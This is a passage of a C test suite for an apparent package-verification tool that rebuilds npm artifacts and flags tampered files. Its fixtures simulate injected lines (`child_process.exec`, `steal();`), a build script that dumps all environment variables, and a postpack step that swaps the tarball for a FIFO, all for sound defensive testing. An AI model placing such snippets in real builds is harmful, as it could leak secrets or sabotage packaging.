/*
 * Rebuild (verifier/rebuild/rebuild*.c, the rebuilt tree in diff/tree_diff.c): fixture repositories
 * made by the test, whose build is a node script that writes dist/ from src/ and needs no
 * third-party package, so everything runs offline. A clean one reproduces and passes; an
 * artifact whose dist/ file has an extra line fails naming it; a build that writes the time is
 * never a silent pass; failed, timed-out and skipped builds leave the files unverified with the
 * reason. The comparison rules themselves are tested on in-memory trees first.
 * The end-to-end cases skip without node and npm; the sandboxed ones without bubblewrap.
 */
#include "sg_test.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "common/common.h"
#include "diff/diff_int.h"
#include "verifier/rebuild/rebuild_int.h"

#define SRC_JS "module.exports = function add(a, b) {\n  return a + b;\n};\n"
#define BUILT_JS "// built from src/index.js\n" SRC_JS

#define PJ_BUILD                                                                                   \
    "{\n  \"name\": \"fixture-build\",\n  \"version\": \"1.0.0\",\n  \"main\": "                   \
    "\"dist/index.js\",\n"                                                                         \
    "  \"files\": [\"dist\"],\n  \"scripts\": {\"build\": \"node build.js\"}\n}\n"

#define PJ_PREPACK                                                                                 \
    "{\n  \"name\": \"fixture-build\",\n  \"version\": \"1.0.0\",\n  \"main\": "                   \
    "\"dist/index.js\",\n"                                                                         \
    "  \"files\": [\"dist\"],\n  \"scripts\": {\"prepack\": \"node build.js\"}\n}\n"

#define BUILD_HEAD                                                                                 \
    "const fs = require('fs');\n"                                                                  \
    "fs.mkdirSync('dist', {recursive: true});\n"                                                   \
    "const src = fs.readFileSync('src/index.js', 'utf8');\n"

static const char build_clean[] =
    BUILD_HEAD "fs.writeFileSync('dist/index.js', '// built from src/index.js\\n' + src);\n";
static const char build_iso_time[] =
    BUILD_HEAD "fs.writeFileSync('dist/index.js', '// built at ' + new Date().toISOString() + "
               "'\\n' + src);\n";
static const char build_date_string[] =
    BUILD_HEAD "fs.writeFileSync('dist/index.js', '// built on ' + new Date().toString() + "
               "'\\n' + src);\n";
/* The build also runs as postpack: it swaps the packed tarball for a FIFO, which a reader
 * that opens it blocking would wait on forever (issue 12). */
#define PJ_POSTPACK_FIFO                                                                           \
    "{\n  \"name\": \"fixture-build\",\n  \"version\": \"1.0.0\",\n  \"main\": "                   \
    "\"dist/index.js\",\n  \"files\": [\"dist\"],\n  \"scripts\": {\"prepack\": \"node "           \
    "build.js\", \"postpack\": \"node build.js fifo\"}\n}\n"
static const char build_then_fifo[] =
    BUILD_HEAD "if (process.argv[2] === 'fifo') {\n"
               "  const dir = process.env.npm_config_pack_destination;\n"
               "  for (const n of fs.readdirSync(dir)) {\n"
               "    const p = require('path').join(dir, n);\n"
               "    fs.unlinkSync(p);\n"
               "    require('child_process').execFileSync('mkfifo', [p]);\n"
               "  }\n"
               "  process.exit(0);\n"
               "}\n"
               "fs.writeFileSync('dist/index.js', '// built from src/index.js\\n' + src);\n";
static const char build_prints_env[] =
    "for (const [k, v] of Object.entries(process.env)) console.error(k + '=' + v);\n"
    "process.exit(3);\n";
static const char build_fails[] = "console.error('the compiler exploded'); process.exit(3);\n";
/* tsc colors its errors even into a pipe */
static const char build_fails_colored[] =
    "console.error('\\x1b[96msrc/a.ts\\x1b[0m:\\x1b[93m14\\x1b[0m - \\x1b[91merror\\x1b[0m"
    "\\x1b[90m TS2315: \\x1b[0mType is not generic.'); process.exit(2);\n";
/* corepack's own words when a registry serves no signatures, with a line of its source */
static const char build_corepack_unsigned[] =
    "console.error('/usr/lib/node_modules/corepack/dist/lib/corepack.cjs:21999');\n"
    "console.error('  if (!Array.isArray(signatures) || !signatures.length) throw new "
    "Error(`No compatible signature found in package metadata`);');\n"
    "console.error('Error: No compatible signature found in package metadata');\n"
    "process.exit(1);\n";
static const char build_hangs[] = "for (;;) {}\n";

typedef struct fx {
    sg_ctx *ctx;        /* context */
    int have_node;      /* node and npm on PATH */
    char bwrap[4096];   /* bubblewrap when it can make a sandbox here, else "" */
    char *cache;        /* the cache folder (logs) */
    sg_rebuild_opts ro; /* rebuild options */
    sg_report *report;  /* the last report */
} fx;

static const char *search_path(void)
{
    const char *p = getenv("PATH");
    return p && *p ? p : "/usr/local/bin:/usr/bin:/bin";
}

static int setup(void **state)
{
    fx *f = calloc(1, sizeof(*f));
    sg_buf b = SG_BUF_INIT;
    assert_non_null(f);
    assert_int_equal(sg_ctx_new(&f->ctx), 0);
    f->have_node = sgt_have_program("node") && sgt_have_program("npm");
    if (sg_sandbox__which(&b, f->ctx, "bwrap", search_path()) == 0 &&
        sg_sandbox__probe(f->ctx, b.ptr) == 0)
        snprintf(f->bwrap, sizeof(f->bwrap), "%s", b.ptr);
    sg_error_clear(f->ctx);
    sg_buf_dispose(&b);
    f->cache = sgt_tmpdir();
    f->ro = (sg_rebuild_opts)SG_REBUILD_OPTS_INIT;
    f->ro.mode = SG_REBUILD_AUTO;
    f->ro.search_path = search_path();
    f->ro.bwrap = f->bwrap[0] ? f->bwrap : NULL;
    f->ro.cache_dir = f->cache;
    f->ro.timeout_seconds = 120;
    *state = f;
    return 0;
}

static int teardown(void **state)
{
    fx *f = *state;
    sg_report_free(f->report);
    sg_ctx_free(f->ctx);
    sgt_rm_rf(f->cache);
    free(f);
    return 0;
}

#define NEED_NODE(f)                                                                               \
    do {                                                                                           \
        if (!(f)->have_node)                                                                       \
            skip();                                                                                \
    } while (0)

#define NEED_SANDBOX(f)                                                                            \
    do {                                                                                           \
        if (!(f)->have_node || !(f)->bwrap[0])                                                     \
            skip();                                                                                \
    } while (0)

/* The finding of kind at path, or NULL. */
static const sg_finding *finding_at(const sg_report *r, const char *kind, const char *path)
{
    size_t i;
    for (i = 0; i < sg_report_finding_count(r); i++) {
        const sg_finding *x = sg_report_finding(r, i);
        if (strcmp(x->kind, kind) == 0 && x->path && strcmp(x->path, path) == 0)
            return x;
    }
    return NULL;
}

static int has_normalization(const sg_report *r, const char *name)
{
    size_t i;
    for (i = 0; i < sg_report_normalization_count(r); i++)
        if (strcmp(sg_report_normalization(r, i), name) == 0)
            return 1;
    return 0;
}

static void print_report(const sg_report *r)
{
    sg_buf out = SG_BUF_INIT;
    sg_ctx *ctx = NULL;
    assert_int_equal(sg_ctx_new(&ctx), 0);
    assert_int_equal(sg_report_write_text(&out, ctx, r, SG_TEXT_VERBOSE), 0);
    printf("%s", out.ptr);
    sg_buf_dispose(&out);
    sg_ctx_free(ctx);
}

/* ---------------------------------------------------------------- the comparison rules */

/* The diff with a rebuild, a second (varied) one when again is not NULL, and the release's
 * facts from facts (may be NULL). */
static sg_report *diff_with_rebuilds(const sgt_file *src, size_t ns, const sgt_file *art, size_t na,
                                     const sgt_file *reb, size_t nr, const sgt_file *again,
                                     size_t ng, const sg_diff_opts *facts)
{
    sg_tree *s = sgt_tree(src, ns), *a = sgt_tree(art, na), *r = reb ? sgt_tree(reb, nr) : NULL;
    sg_tree *g = again ? sgt_tree(again, ng) : NULL;
    sg_diff_opts o = SG_DIFF_OPTS_INIT;
    sg_report *report = NULL;
    sg_ctx *ctx = NULL;
    assert_int_equal(sg_ctx_new(&ctx), 0);
    assert_int_equal(sg_report_new(&report, ctx), 0);
    if (facts)
        o = *facts;
    o.rebuilt = r;
    o.rebuilt_again = g;
    assert_int_equal(sg_diff_trees(report, ctx, s, a, &o), 0);
    sg_report_decide(report, SG_SEV_HIGH);
    sg_tree_free(s);
    sg_tree_free(a);
    sg_tree_free(r);
    sg_tree_free(g);
    sg_ctx_free(ctx);
    return report;
}

static sg_report *diff_with_rebuild(const sgt_file *src, size_t ns, const sgt_file *art, size_t na,
                                    const sgt_file *reb, size_t nr)
{
    return diff_with_rebuilds(src, ns, art, na, reb, nr, NULL, 0, NULL);
}

#define PJ_MIN "{\"name\":\"x\",\"version\":\"1.0.0\"}\n"

static void test_rebuild__compare_same_bytes_counts_as_rebuilt(void **state)
{
    const sgt_file src[] = {{"package.json", PJ_MIN, 0, 0}};
    const sgt_file art[] = {{"package.json", PJ_MIN, 0, 0}, {"dist/index.js", BUILT_JS, 0, 0}};
    sg_report *r = diff_with_rebuild(src, 1, art, 2, art, 2);
    (void)state;
    assert_int_equal(sg_report_count(r, SG_COUNT_FILES_REBUILT), 1);
    assert_null(finding_at(r, "file-added", "dist/index.js"));
    assert_int_equal(sg_report_verdict(r), SG_VERDICT_PASS);
    sg_report_free(r);
}

static void test_rebuild__compare_appended_line_fails_naming_the_file(void **state)
{
    const sgt_file src[] = {{"package.json", PJ_MIN, 0, 0}};
    const sgt_file art[] = {
        {"package.json", PJ_MIN, 0, 0},
        {"dist/index.js", BUILT_JS "require('child_process').exec('x');\n", 0, 0}};
    const sgt_file reb[] = {{"package.json", PJ_MIN, 0, 0}, {"dist/index.js", BUILT_JS, 0, 0}};
    sg_report *r = diff_with_rebuild(src, 1, art, 2, reb, 2);
    const sg_finding *f = finding_at(r, "file-modified", "dist/index.js");
    (void)state;
    assert_non_null(f);
    assert_int_equal(f->severity, SG_SEV_HIGH);
    assert_non_null(strstr(f->detail, "1 line appended"));
    assert_int_equal(sg_report_count(r, SG_COUNT_FILES_REBUILT), 0);
    assert_int_equal(sg_report_verdict(r), SG_VERDICT_FAIL);
    sg_report_free(r);
}

static void test_rebuild__compare_timestamp_is_volatile_and_low(void **state)
{
    const sgt_file src[] = {{"package.json", PJ_MIN, 0, 0}};
    const sgt_file art[] = {
        {"package.json", PJ_MIN, 0, 0},
        {"dist/index.js", "/* built 2024-01-02T03:04:05.678Z, 1704164645678 */\n" SRC_JS, 0, 0}};
    const sgt_file reb[] = {
        {"package.json", PJ_MIN, 0, 0},
        {"dist/index.js", "/* built 2026-11-28T10:20:30.456Z, 1795861230456 */\n" SRC_JS, 0, 0}};
    /* the second build ran later: both tokens differ between the two builds */
    const sgt_file again[] = {
        {"package.json", PJ_MIN, 0, 0},
        {"dist/index.js", "/* built 2026-11-28T10:20:42.001Z, 1795861242001 */\n" SRC_JS, 0, 0}};
    sg_report *r = diff_with_rebuilds(src, 1, art, 2, reb, 2, again, 2, NULL);
    const sg_finding *f = finding_at(r, "file-modified", "dist/index.js");
    (void)state;
    assert_non_null(f);
    assert_int_equal(f->severity, SG_SEV_LOW);
    assert_non_null(strstr(f->detail, "volatile tokens"));
    assert_non_null(strstr(f->detail, "differs between the two builds"));
    assert_true(has_normalization(r, "volatile-tokens"));
    assert_int_equal(sg_report_count(r, SG_COUNT_FILES_REBUILT), 1);
    assert_int_equal(sg_report_list_count(r, SG_LIST_REBUILD_TOKENS), 1);
    assert_non_null(strstr(sg_report_list_get(r, SG_LIST_REBUILD_TOKENS, 0), "dist/index.js: "));
    sg_report_free(r);
}

#define HEX_A "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
#define HEX_B "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b856"

/* One changed hex constant, one changed 16-digit number: both builds agree on the original, so
 * the artifact's token is a modification naming it; an appended line fails too (issue 15). */
static void test_rebuild__compare_swapped_constants_fail_after_two_builds(void **state)
{
    static const char *const arts[] = {
        "const PIN = '" HEX_B "';\nconst N = 1234567890123456;\n",
        "const PIN = '" HEX_A "';\nconst N = 1234567890123457;\n",
        "const PIN = '" HEX_A "';\nconst N = 1234567890123456;\nsteal();\n",
    };
    static const char *const names[] = {"'" HEX_B "'", "'1234567890123457'", "appended"};
    const char *built = "const PIN = '" HEX_A "';\nconst N = 1234567890123456;\n";
    const sgt_file src[] = {{"package.json", PJ_MIN, 0, 0}};
    const sgt_file reb[] = {{"package.json", PJ_MIN, 0, 0}, {"dist/pin.js", built, 0, 0}};
    size_t i;
    (void)state;
    for (i = 0; i < SG_ARRAY_SIZE(arts); i++) {
        const sgt_file art[] = {{"package.json", PJ_MIN, 0, 0}, {"dist/pin.js", arts[i], 0, 0}};
        sg_report *r = diff_with_rebuilds(src, 1, art, 2, reb, 2, reb, 2, NULL);
        const sg_finding *f = finding_at(r, "file-modified", "dist/pin.js");
        print_report(r);
        assert_non_null(f);
        assert_int_equal(f->severity, SG_SEV_HIGH);
        assert_non_null(strstr(f->detail, names[i]));
        if (i < 2)
            assert_non_null(strstr(f->detail, "where both builds have"));
        assert_false(has_normalization(r, "volatile-tokens"));
        assert_int_equal(sg_report_count(r, SG_COUNT_FILES_REBUILT), 0);
        assert_int_equal(sg_report_verdict(r), SG_VERDICT_FAIL);
        sg_report_free(r);
    }
}

/* Without a second build, token differences are not established: unverified, never a pass. */
static void test_rebuild__compare_tokens_without_a_second_build_are_unverified(void **state)
{
    const sgt_file src[] = {{"package.json", PJ_MIN, 0, 0}};
    const sgt_file art[] = {{"package.json", PJ_MIN, 0, 0},
                            {"dist/a.js", "t = 1700000000000;\n", 0, 0}};
    const sgt_file reb[] = {{"package.json", PJ_MIN, 0, 0},
                            {"dist/a.js", "t = 1795861230456;\n", 0, 0}};
    sg_report *r = diff_with_rebuild(src, 1, art, 2, reb, 2);
    const sg_finding *f = finding_at(r, "file-unverified", "dist/a.js");
    (void)state;
    assert_non_null(f);
    assert_non_null(strstr(f->detail, "no second build"));
    assert_non_null(strstr(f->detail, "'1700000000000'"));
    assert_int_equal(sg_report_verdict(r), SG_VERDICT_INCONCLUSIVE);
    sg_report_free(r);
}

/* Tokens that equal the release's publish time (ISO, seconds, milliseconds, its date), its
 * commit (full or abbreviated) or its version are established without varying; a time that is
 * not the publish time, a hash that is not the commit, are not. */
static void test_rebuild__compare_release_facts_establish_tokens(void **state)
{
    static const char commit[] = "9b2e41f07c3d5a6b8e9f0a1b2c3d4e5f60718293";
    static const struct {
        const char *art, *reb; /* dist/a.js in the artifact and in both builds */
        int pass;              /* established */
    } cases[] = {
        {"t = '2026-11-28T10:20:30.456Z';\n", "t = '2000-01-01T00:00:00.000Z';\n", 1},
        {"t = '2026-11-28T10:20:30Z';\n", "t = '2000-01-01T00:00:00Z';\n", 1},
        {"t = 1795861230456;\n", "t = 1000000000000;\n", 1},
        {"t = 1795861230;\n", "t = 1000000000;\n", 1},
        {"d = '2026-11-28';\n", "d = '2000-01-01';\n", 1},
        {"c = '9b2e41f07c3d5a6b8e9f0a1b2c3d4e5f60718293';\n",
         "c = '0000000000000000000000000000000000000000';\n", 1},
        {"c = '9b2e41f';\n", "c = '0000000';\n", 1},
        {"c = '9B2E41F0';\n", "c = '00000000';\n", 1},
        {"v = '1.0.20261128';\n", "v = '1.0.00000000';\n", 1},
        {"t = '2026-11-28T10:20:31.456Z';\n", "t = '2000-01-01T00:00:00.000Z';\n", 0},
        {"c = '9b2e41e';\n", "c = '0000000';\n", 0},
        {"c = '9b2e41';\n", "c = '000000';\n", 0}, /* too short to be a token: not volatile */
    };
    sg_diff_opts facts = SG_DIFF_OPTS_INIT;
    size_t i;
    (void)state;
    facts.release_version = "1.0.20261128";
    facts.release_commit = commit;
    facts.release_published = "2026-11-28T10:20:30.456Z";
    for (i = 0; i < SG_ARRAY_SIZE(cases); i++) {
        const sgt_file src[] = {{"package.json", PJ_MIN, 0, 0}};
        const sgt_file art[] = {{"package.json", PJ_MIN, 0, 0}, {"dist/a.js", cases[i].art, 0, 0}};
        const sgt_file reb[] = {{"package.json", PJ_MIN, 0, 0}, {"dist/a.js", cases[i].reb, 0, 0}};
        sg_report *r = diff_with_rebuilds(src, 1, art, 2, reb, 2, reb, 2, &facts);
        if ((sg_report_verdict(r) == SG_VERDICT_PASS) != cases[i].pass) {
            print_report(r);
            fail_msg("case %zu: %s", i, cases[i].art);
        }
        if (cases[i].pass)
            assert_non_null(
                strstr(finding_at(r, "file-modified", "dist/a.js")->detail, "the release's"));
        sg_report_free(r);
    }
}

/* Random token-heavy inputs (run under the sanitizers too): establishing never reads past a
 * line, and with no second build and no facts nothing is ever established. */
static void test_rebuild__establish_tokens_random_inputs(void **state)
{
    static const char alphabet[] = "0123456789abcdefABCDEF-:TZ.x \n";
    unsigned seed = 15;
    char a[64], b[64], g[64];
    size_t round, i;
    (void)state;
    for (round = 0; round < 20000; round++) {
        size_t n = 1 + (seed = seed * 1103515245u + 12345u) % 60, gn;
        sg_rebuilt_cmp c;
        sg_token_check tc;
        for (i = 0; i < n; i++) {
            seed = seed * 1103515245u + 12345u;
            a[i] = alphabet[(seed >> 8) % (sizeof(alphabet) - 1)];
            b[i] = (seed >> 20) % 4 == 0 && a[i] >= '0' && a[i] <= '9'
                       ? (char)('0' + (seed >> 24) % 10)
                       : a[i];
            g[i] = (seed >> 16) % 3 == 0 && b[i] >= '0' && b[i] <= '9'
                       ? (char)('0' + (seed >> 12) % 10)
                       : b[i];
        }
        gn = n - (seed >> 28) % 2;
        sg_diff__rebuilt_compare(&c, a, n, b, n);
        if (c.outcome != SG_REBUILT_VOLATILE)
            continue;
        sg_diff__establish_tokens(&tc, a, n, b, n, NULL, 0, NULL);
        assert_false(tc.established);
        sg_diff__establish_tokens(&tc, a, n, b, n, g, gn, NULL);
        assert_true(tc.established || tc.line > 0);
    }
}

/* A token differs between the builds only when it sits at the same place with the same length
 * in the second build: a second build that moved it establishes nothing. */
static void test_rebuild__compare_varying_tokens_must_line_up(void **state)
{
    const sgt_file src[] = {{"package.json", PJ_MIN, 0, 0}};
    const sgt_file art[] = {{"package.json", PJ_MIN, 0, 0}, {"dist/a.js", "a(12345678);\n", 0, 0}};
    const sgt_file reb[] = {{"package.json", PJ_MIN, 0, 0}, {"dist/a.js", "a(87654321);\n", 0, 0}};
    const sgt_file moved[] = {{"package.json", PJ_MIN, 0, 0},
                              {"dist/a.js", "a( 11111111);\n", 0, 0}};
    const sgt_file shorter[] = {{"package.json", PJ_MIN, 0, 0},
                                {"dist/a.js", "a(1111111);\n", 0, 0}};
    const sgt_file same[] = {{"package.json", PJ_MIN, 0, 0}, {"dist/a.js", "a(11111111);\n", 0, 0}};
    sg_report *r;
    (void)state;
    r = diff_with_rebuilds(src, 1, art, 2, reb, 2, moved, 2, NULL);
    assert_int_equal(sg_report_verdict(r), SG_VERDICT_FAIL);
    sg_report_free(r);
    r = diff_with_rebuilds(src, 1, art, 2, reb, 2, shorter, 2, NULL);
    assert_int_equal(sg_report_verdict(r), SG_VERDICT_FAIL);
    sg_report_free(r);
    r = diff_with_rebuilds(src, 1, art, 2, reb, 2, same, 2, NULL);
    assert_int_equal(sg_report_verdict(r), SG_VERDICT_PASS);
    sg_report_free(r);
}

static sg_rebuilt_outcome cmp(const char *a, const char *b)
{
    sg_rebuilt_cmp c;
    sg_diff__rebuilt_compare(&c, a, strlen(a), b, strlen(b));
    return c.outcome;
}

static void test_rebuild__compare_volatile_tokens_are_narrow(void **state)
{
    (void)state;
    /* volatile: numbers of 4+ digits, hex hashes with a digit, ISO dates and times */
    assert_int_equal(cmp("v = 1700000000000;\n", "v = 1795861230456;\n"), SG_REBUILT_VOLATILE);
    assert_int_equal(cmp("rev 3f2a9c1d7\n", "rev 9b8e7d6c5\n"), SG_REBUILT_VOLATILE);
    assert_int_equal(cmp("at 2024-01-02\n", "at 2026-11-28\n"), SG_REBUILT_VOLATILE);
    assert_int_equal(cmp("at 10:20:30 UTC\n", "at 23:59:01 UTC\n"), SG_REBUILT_VOLATILE);
    assert_int_equal(cmp("t=2024-01-02 03:04:05+01:00;\n", "t=2026-11-28 10:20:30+00:00;\n"),
                     SG_REBUILT_VOLATILE);
    assert_int_equal(cmp("same\n", "same\n"), SG_REBUILT_SAME);
    /* not volatile: short numbers, hex words without digits, identifiers, lengths, words */
    assert_int_equal(cmp("a[0]\n", "a[1]\n"), SG_REBUILT_DIFFERENT);
    assert_int_equal(cmp("var cafebabe = 1;\n", "var deadbeef = 1;\n"), SG_REBUILT_DIFFERENT);
    assert_int_equal(cmp("x1234 = 1;\n", "x9999 = 1;\n"), SG_REBUILT_DIFFERENT);
    assert_int_equal(cmp("n = 12345;\n", "n = 1234;\n"), SG_REBUILT_DIFFERENT);
    assert_int_equal(cmp("on Mon Jan 01 2024\n", "on Sat Nov 28 2026\n"), SG_REBUILT_DIFFERENT);
    assert_int_equal(cmp("Ab12Cd34Ef\n", "Ab12Cd34Ff\n"), SG_REBUILT_DIFFERENT); /* mixed case */
    /* lines added, removed, reordered, or only a final newline */
    assert_int_equal(cmp("a\nb\n", "a\n"), SG_REBUILT_DIFFERENT);
    assert_int_equal(cmp("a\n", "a\nb\n"), SG_REBUILT_DIFFERENT);
    assert_int_equal(cmp("b\na\n", "a\nb\n"), SG_REBUILT_DIFFERENT);
    assert_int_equal(cmp("a\n", "a"), SG_REBUILT_DIFFERENT);
    /* binary content is compared exactly */
    {
        sg_rebuilt_cmp c;
        sg_diff__rebuilt_compare(&c, "x\0 1234", 7, "x\0 5678", 7);
        assert_int_equal(c.outcome, SG_REBUILT_DIFFERENT);
    }
}

static void test_rebuild__compare_reports_where_lines_differ(void **state)
{
    sg_rebuilt_cmp c;
    const char *reb = "line1\nline2\n", *art = "line1\nline2\nevil();\nmore();\n";
    (void)state;
    sg_diff__rebuilt_compare(&c, art, strlen(art), reb, strlen(reb));
    assert_int_equal(c.outcome, SG_REBUILT_DIFFERENT);
    assert_int_equal(c.appended, 2);
    assert_int_equal(c.first_line, 3);
    /* a minified file without a final newline, with a payload appended after it */
    sg_diff__rebuilt_compare(&c, "a();\nb();", 9, "a();", 4);
    assert_int_equal(c.appended, 1);
    sg_diff__rebuilt_compare(&c, "x\ny\nz\n", 6, "x\nY\nz\n", 6);
    assert_int_equal(c.first_line, 2);
    assert_int_equal(c.lines_changed, 1);
}

static void test_rebuild__compare_file_the_rebuild_lacks_is_not_explained(void **state)
{
    const sgt_file src[] = {{"package.json", PJ_MIN, 0, 0}};
    const sgt_file art[] = {{"package.json", PJ_MIN, 0, 0},
                            {"dist/index.js", BUILT_JS, 0, 0},
                            {"dist/extra.js", "evil();\n", 0, 0}};
    const sgt_file reb[] = {{"package.json", PJ_MIN, 0, 0}, {"dist/index.js", BUILT_JS, 0, 0}};
    sg_report *r = diff_with_rebuild(src, 1, art, 3, reb, 2);
    (void)state;
    assert_non_null(finding_at(r, "file-added", "dist/extra.js"));
    assert_int_equal(sg_report_count(r, SG_COUNT_FILES_REBUILT), 1);
    sg_report_free(r);
}

static void test_rebuild__compare_source_file_rewritten_by_the_build(void **state)
{
    /* prepack stamps the version into a committed file: the rebuild explains it */
    const sgt_file src[] = {{"package.json", PJ_MIN, 0, 0}, {"lib/v.js", "v = 'DEV';\n", 0, 0}};
    const sgt_file art[] = {{"package.json", PJ_MIN, 0, 0}, {"lib/v.js", "v = '1.0.0';\n", 0, 0}};
    sg_report *r = diff_with_rebuild(src, 2, art, 2, art, 2);
    (void)state;
    assert_null(finding_at(r, "file-modified", "lib/v.js"));
    assert_int_equal(sg_report_count(r, SG_COUNT_FILES_REBUILT), 1);
    sg_report_free(r);
}

#define COMMENTED_JS                                                                               \
    "// add two numbers\n/* exported */\nmodule.exports = function add(a, b) {\n  // sum\n"        \
    "  return a + b;\n};\n"
#define STRIPPED_JS "module.exports = function add(a, b) {\n  return a + b;\n};\n"

/* clean-publish strips comments in a folder of its own: the rebuild's copy keeps them, or
 * strips them differently. The source explains the artifact's copy either way (issue 15). */
static void test_rebuild__compare_comment_stripped_file_stays_explained(void **state)
{
    const sgt_file src[] = {{"package.json", PJ_MIN, 0, 0}, {"lib/add.js", COMMENTED_JS, 0, 0}};
    const sgt_file art[] = {{"package.json", PJ_MIN, 0, 0}, {"lib/add.js", STRIPPED_JS, 0, 0}};
    const sgt_file reb[] = {{"package.json", PJ_MIN, 0, 0},
                            {"lib/add.js", "\n" STRIPPED_JS "\n", 0, 0}};
    sg_report *with = diff_with_rebuild(src, 2, art, 2, src, 2);
    sg_report *other = diff_with_rebuild(src, 2, art, 2, reb, 2);
    sg_report *without = diff_with_rebuild(src, 2, art, 2, NULL, 0);
    sg_report *rs[3];
    size_t i;
    (void)state;
    rs[0] = with;
    rs[1] = other;
    rs[2] = without;
    for (i = 0; i < 3; i++) {
        const sg_finding *f = finding_at(rs[i], "file-modified", "lib/add.js");
        assert_non_null(f);
        assert_int_equal(f->severity, SG_SEV_LOW);
        assert_true(has_normalization(rs[i], "js-comments-stripped"));
        assert_int_equal(sg_report_verdict(rs[i]), SG_VERDICT_PASS);
        sg_report_free(rs[i]);
    }
}

/* Rank of a verdict: a rebuild may move it only towards pass from where the source left it. */
static int verdict_rank(sg_verdict v)
{
    return v == SG_VERDICT_PASS ? 2 : v == SG_VERDICT_INCONCLUSIVE ? 1 : 0;
}

/* Every pair below passes without a rebuild; whatever a rebuild makes (the artifact, the
 * source, nothing, the artifact with a line appended to every file or a number changed), the
 * verdict stays pass: a rebuild never turns a pass into anything else. */
static void test_rebuild__property_a_rebuild_never_demotes_a_pass(void **state)
{
    typedef struct pair {
        sgt_file src[3]; /* the source */
        sgt_file art[3]; /* the artifact */
        size_t ns, na;   /* entries */
    } pair;
    static const pair pairs[] = {
        {{{"package.json", PJ_MIN, 0, 0}, {"lib/a.js", SRC_JS, 0, 0}},
         {{"package.json", PJ_MIN, 0, 0}, {"lib/a.js", SRC_JS, 0, 0}},
         2,
         2},
        {{{"package.json", PJ_MIN, 0, 0}, {"lib/add.js", COMMENTED_JS, 0, 0}},
         {{"package.json", PJ_MIN, 0, 0}, {"lib/add.js", STRIPPED_JS, 0, 0}},
         2,
         2},
        {{{"package.json", PJ_MIN, 0, 0}, {"Readme.md", "# x 20240102\n", 0, 0}},
         {{"package.json", PJ_MIN, 0, 0}, {"README.md", "# x 20240102\n", 0, 0}},
         2,
         2},
        {{{"package.json", PJ_MIN, 0, 0},
          {"bin/x.js", "#!/usr/bin/env node\nrun(1234567);\n", 0, 0}},
         {{"package.json", PJ_MIN, 0, 0},
          {"bin/x.js", "#!/usr/bin/env node\nrun(1234567);\n", 0, 0}},
         2,
         2},
    };
    size_t i, v, k;
    (void)state;
    for (i = 0; i < SG_ARRAY_SIZE(pairs); i++) {
        const pair *p = &pairs[i];
        sg_report *base = diff_with_rebuild(p->src, p->ns, p->art, p->na, NULL, 0);
        assert_int_equal(sg_report_verdict(base), SG_VERDICT_PASS);
        for (v = 0; v < 4; v++) {
            sgt_file reb[3];
            char bufs[3][256];
            const sgt_file *from = v == 1 ? p->src : p->art;
            size_t n = v == 1 ? p->ns : p->na;
            sg_report *r;
            for (k = 0; k < n; k++) {
                reb[k] = from[k];
                if (v >= 2 && strcmp(from[k].path, "package.json") != 0) {
                    const char *c = from[k].content;
                    if (v == 2)
                        snprintf(bufs[k], sizeof(bufs[k]), "%sevil();\n", c);
                    else /* a number or date of the same length changed */
                        snprintf(bufs[k], sizeof(bufs[k]), "%s", c);
                    if (v == 3)
                        for (char *d = bufs[k]; *d; d++)
                            if (*d >= '0' && *d <= '9')
                                *d = *d == '9' ? '0' : (char)(*d + 1);
                    reb[k].content = bufs[k];
                }
            }
            r = diff_with_rebuild(p->src, p->ns, p->art, p->na, reb, n);
            if (verdict_rank(sg_report_verdict(r)) < verdict_rank(sg_report_verdict(base))) {
                print_report(r);
                fail_msg("pair %zu, rebuild variant %zu: the rebuild demoted a pass", i, v);
            }
            sg_report_free(r);
        }
        sg_report_free(base);
    }
}

static void test_rebuild__materialize_writes_files_links_and_modes(void **state)
{
    fx *f = *state;
    const sgt_file files[] = {{"a.txt", "A", 0, 0},
                              {"bin/run.sh", "#!/bin/sh\n", 0, 0755},
                              {"deep/er/x.js", "x", 0, 0},
                              {"link", "a.txt", 0, 0120000}};
    sg_tree *t = sgt_tree(files, 4);
    char *dir = sgt_tmpdir(), p[4200], target[64];
    struct stat st;
    ssize_t n;

    assert_int_equal(sg_rebuild__materialize(f->ctx, t, dir), 0);
    snprintf(p, sizeof(p), "%s/bin/run.sh", dir);
    assert_int_equal(stat(p, &st), 0);
    assert_true(st.st_mode & 0100);
    snprintf(p, sizeof(p), "%s/deep/er/x.js", dir);
    assert_int_equal(stat(p, &st), 0);
    assert_int_equal(st.st_size, 1);
    snprintf(p, sizeof(p), "%s/link", dir);
    n = readlink(p, target, sizeof(target) - 1);
    assert_int_equal(n, 5);
    target[n] = '\0';
    assert_string_equal(target, "a.txt");
    sg_tree_free(t);
}

/* ---------------------------------------------------------------- end to end */

/* Commit the fixture (its build script given) and pack an artifact with this dist file. */
static void make_fixture(char *repo, char *tgz, size_t size, const char *pj, const char *build_js,
                         const char *dist)
{
    char *dir = sgt_tmpdir();
    const sgt_file files[] = {{"package.json", pj, 0, 0},
                              {"build.js", build_js, 0, 0},
                              {"src/index.js", SRC_JS, 0, 0},
                              {".gitignore", "dist\nnode_modules\n", 0, 0}};
    const sgt_tar_entry entries[] = {{"package/package.json", pj, 0, 0644, '0', NULL},
                                     {"package/dist/index.js", dist, 0, 0644, '0', NULL}};
    snprintf(repo, size, "%s/repo", dir);
    snprintf(tgz, size, "%s/fixture-build-1.0.0.tgz", dir);
    sgt_git_init(repo, 0);
    sgt_git_commit(NULL, repo, NULL, files, 4, "fixture", 0);
    sgt_tar_write(tgz, entries, 2);
}

/* Verify in local mode with the fixture's rebuild options. */
static int verify(fx *f, const char *pj, const char *build_js, const char *dist)
{
    char repo[4096], tgz[4096];
    sg_verify_opts o = SG_VERIFY_OPTS_INIT;
    int error;

    make_fixture(repo, tgz, sizeof(repo), pj, build_js, dist);
    o.tarball_path = tgz;
    o.source = repo;
    o.rebuild = &f->ro;
    sg_report_free(f->report);
    f->report = NULL;
    error = sg_verify_local(&f->report, f->ctx, &o);
    if (error == 0) {
        const char *st = sg_report_get(f->report, SG_REPORT_REBUILD_STATUS);
        const char *log = sg_report_get(f->report, SG_REPORT_REBUILD_LOG);
        print_report(f->report);
        if (st && strcmp(st, "failed") == 0 && log && getenv("SG_TEST_VERBOSE")) {
            char *text = sgt_read_file(log, NULL);
            printf("---- %s\n%s----\n", log, text);
            free(text);
        }
    } else
